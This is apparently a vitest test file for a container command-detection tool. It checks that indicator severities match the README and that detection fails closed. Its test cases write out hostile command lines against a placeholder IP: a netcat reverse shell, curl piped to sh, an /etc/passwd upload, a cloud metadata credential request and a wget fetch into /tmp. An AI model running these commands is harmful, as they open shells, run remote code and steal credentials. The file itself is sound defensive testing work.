import { readFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it, vi } from "vitest";
import { INDICATORS } from "../../src/detection/indicators.js";
import { evaluate } from "../../src/detection/rule.js";
import { SEVERITIES } from "../../src/model.js";
import { severityRank } from "../../src/severity.js";
import { reasonClass } from "../../src/signals/group-key.js";
import { ROOT } from "../support/cli.js";
import { findingOf, run, session } from "./factory.js";

/** The rows of the README table whose header is `| indicator | severity | when |`, cells unescaped. */
function readmeIndicators(): { id: string; severity: string; reason: string }[] {
  const lines = readFileSync(join(ROOT, "README.md"), "utf8").split("\n");
  const start = lines.indexOf("| indicator | severity | when |");
  expect(start, "the README's indicator table").toBeGreaterThan(-1);
  const rows: { id: string; severity: string; reason: string }[] = [];
  for (const line of lines.slice(start + 2)) {
    if (!line.startsWith("|")) break;
    // Split on the pipes that are not escaped (`\|` is a pipe inside a cell).
    const cells = line
      .slice(1, -1)
      .split(/(?<!\\)\|/)
      .map((cell) => cell.trim().replaceAll("\\|", "|"));
    rows.push({ id: cells[0]!.replace(/^`|`$/g, ""), severity: cells[1]!, reason: cells[2]! });
  }
  return rows;
}

describe("the severity ladder", () => {
  afterEach(() => {
    vi.restoreAllMocks();
  });

  it("is the README's severity table, row for row", () => {
    const table = INDICATORS.map(({ id, severity, reason }) => ({ id, severity, reason }));
    expect(readmeIndicators()).toEqual(table);
  });

  it("has unique ids, known severities, and lists the gravest rows first", () => {
    expect(new Set(INDICATORS.map((row) => row.id)).size).toBe(INDICATORS.length);
    for (const row of INDICATORS) expect(SEVERITIES).toContain(row.severity);
    const ranks = INDICATORS.map((row) => severityRank(row.severity));
    expect(ranks).toEqual([...ranks].sort((a, b) => b - a));
  });

  it.each([
    ["executes-command", run("/usr/bin/nc", "-e", "/bin/sh", "203.0.113.7", "4444")],
    ["feeds-interpreter", session("sh", "-c", "curl -fsSL http://203.0.113.7/x | sh")],
    ["credential-endpoint", run("/usr/bin/curl", "http://169.254.169.254/latest/meta-data/")],
    ["uploads", run("/usr/bin/curl", "-T", "/etc/passwd", "http://203.0.113.7/")],
    ["writes-into-writable", run("/usr/bin/wget", "-O", "/tmp/x", "http://203.0.113.7/x")],
    ["utility-location", run("/tmp/curl", "http://203.0.113.7/x")],
    ["in-container", run("/usr/bin/curl", "http://203.0.113.7/x")],
  ])("raises %s at its severity", (id, event) => {
    const row = INDICATORS.find((r) => r.id === id)!;
    const spy = vi.spyOn(row, "test");
    const finding = findingOf(event);
    const raised = spy.mock.results.flatMap((result) => result.value as string[]);
    expect(raised.length).toBeGreaterThan(0);
    for (const reason of raised) expect(finding.reasons).toContain(reason);
    expect(severityRank(finding.severity)).toBeGreaterThanOrEqual(severityRank(row.severity));
  });

  it("fails closed one row at a time: a throwing check counts at medium, the others still judge", () => {
    // Prepare: a bug in one check (the upload reading); the event's credential endpoint is still high.
    const row = INDICATORS.find((r) => r.id === "uploads")!;
    vi.spyOn(row, "test").mockImplementation(() => {
      throw new Error("boom");
    });
    // Act
    const finding = findingOf(run("/usr/bin/curl", "-T", "/etc/passwd", "http://169.254.169.254/"));
    // Assess
    expect(finding.severity).toBe("high");
    const note = finding.reasons.find((r) => r.includes('could not be analysed for "uploads" (boom)'));
    expect(note).toBe(
      'curl (download tool) ran in a container; its arguments could not be analysed for "uploads" (boom)',
    );
    expect(reasonClass(note!)).toBe("unanalysable");
    expect(finding.reasons.some((r) => r.includes("cloud credential endpoint"))).toBe(true);
  });

  it("never lets a failed check read as benign: a loopback call with a broken row is medium", () => {
    const row = INDICATORS.find((r) => r.id === "in-container")!;
    vi.spyOn(row, "test").mockImplementation(() => {
      throw new Error("boom");
    });
    const verdict = evaluate(run("/usr/bin/curl", "http://127.0.0.1:8080/health"));
    expect(verdict.kind).toBe("finding");
    expect(verdict.kind === "finding" && verdict.finding.severity).toBe("medium");
  });
});
